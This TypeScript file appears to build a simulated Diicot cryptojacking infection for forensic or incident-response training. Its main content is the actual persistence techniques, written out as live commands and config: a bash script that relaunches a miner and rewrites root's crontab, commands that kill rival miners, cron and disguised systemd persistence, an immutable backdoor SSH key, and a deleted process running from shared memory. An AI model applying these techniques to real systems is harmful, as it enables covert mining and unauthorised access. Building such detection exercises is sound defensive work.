import { endsHere, type Infection, minerWords, shyMiner } from '../host-part.ts'
import { loginKey } from '../login-key.ts'

const den = '/var/tmp/Documents'
const waiting = '/var/tmp/.update-logs'
const banner = [
  '#!/bin/bash',
  endsHere,
  `if ! pgrep -x Opera >/dev/null; then`,
  `  cd ${den} && nohup ./Opera >/dev/null 2>&1 &`,
  'fi',
  `crontab -r; (echo "* * * * * ${den}/.b4nd1d0"; echo "@reboot ${waiting}/History") | crontab -`,
  'pkill -9 xrx; pkill -9 haiduc; pkill -9 xmrig-rival; pkill -9 java-rival',
  '',
].join('\n')

/** families.md §10c: guessed passwords, jobs of every minute that write themselves anew, a key that cannot be removed. */
export const diicot: Infection = {
  family: 'diicot',
  known: true,
  title: 'Diicot: Opera is no browser, and cron writes itself anew each minute',
  story: [
    'The miner Opera and the scanner kuak lie below /var/tmp/Documents; a copy with the name of a thread of the kernel ran from shared memory and was deleted.',
    'A job of every minute runs .b4nd1d0, which rewrites the crontab; a daily and a boot job lie in wait elsewhere.',
    'The keys of science were replaced by one that is immutable, and the file limits of the kernel were raised.',
  ],
  items: [
    { kind: 'directory', path: den },
    {
      kind: 'file',
      path: `${den}/Opera`,
      content: { lookalike: { ...shyMiner, stubborn: true, once: 'Opera' }, words: minerWords },
      mode: 0o755,
    },
    { kind: 'file', path: `${den}/.diicot`, content: { text: banner }, mode: 0o755 },
    {
      kind: 'file',
      path: `${den}/kuak`,
      content: { lookalike: { burn: 2 }, words: 'ssh: handshake failed masscan zmap' },
      mode: 0o755,
    },
    { kind: 'file', path: `${den}/.b4nd1d0`, content: { text: banner }, mode: 0o755 },
    { kind: 'file', path: `${den}/.balu`, content: { text: '192.0.2.1\n' } },
    { kind: 'directory', path: waiting },
    { kind: 'file', path: `${waiting}/History`, content: { text: banner }, mode: 0o755 },
    { kind: 'file', path: `${waiting}/.b4nd1d0`, content: { copyOf: `${den}/.b4nd1d0` }, mode: 0o755 },
    { kind: 'file', path: '/tmp/cache', content: { copyOf: `${den}/kuak` }, mode: 0o755 },
    { kind: 'file', path: '/root/retea', content: { text: banner }, mode: 0o755 },
    {
      kind: 'file',
      path: '/dev/shm/kdmtmpflush',
      content: { lookalike: { burn: 4, title: 'kdmtmpflush', once: 'kdmtmpflush' }, words: `${minerWords}\ndiicot` },
      mode: 0o755,
    },
    { kind: 'file', path: '/dev/shm/.magic', content: { text: banner }, mode: 0o755 },
    { kind: 'line', path: '/var/spool/cron/crontabs/root', text: `* * * * * ${den}/.b4nd1d0`, mode: 0o600 },
    { kind: 'line', path: '/var/spool/cron/crontabs/root', text: `@daily ${waiting}/.b4nd1d0`, mode: 0o600 },
    {
      kind: 'line',
      path: '/var/spool/cron/crontabs/root',
      text: `@reboot ${waiting}/./History >/dev/null 2>&1 & disown`,
      mode: 0o600,
    },
    {
      kind: 'file',
      path: '/etc/systemd/system/myservice.service',
      content: {
        text: `[Unit]\nDescription=My Service\n\n[Service]\nType=forking\nExecStart=/bin/bash ${waiting}/History\nRestart=always\nRestartSec=30\n\n[Install]\nWantedBy=multi-user.target\n`,
      },
    },
    { kind: 'unit', name: 'myservice.service', path: '/etc/systemd/system/myservice.service' },
    {
      kind: 'line',
      path: '/home/science/.ssh/authorized_keys',
      text: loginKey('ssh-rsa', 'diicot', 'ubuntu'),
      owner: 'science',
      mode: 0o600,
      attributes: 'ia',
    },
    { kind: 'line', path: '/etc/sysctl.conf', text: 'fs.file-max = 2097152' },
    { kind: 'process', path: `${den}/Opera`, argv: ['./Opera'], cwd: den },
    { kind: 'process', path: `${den}/kuak`, argv: ['./kuak', '22'], cwd: den },
    { kind: 'process', path: '/dev/shm/kdmtmpflush', argv: ['kdmtmpflush'], deleted: true },
  ],
}
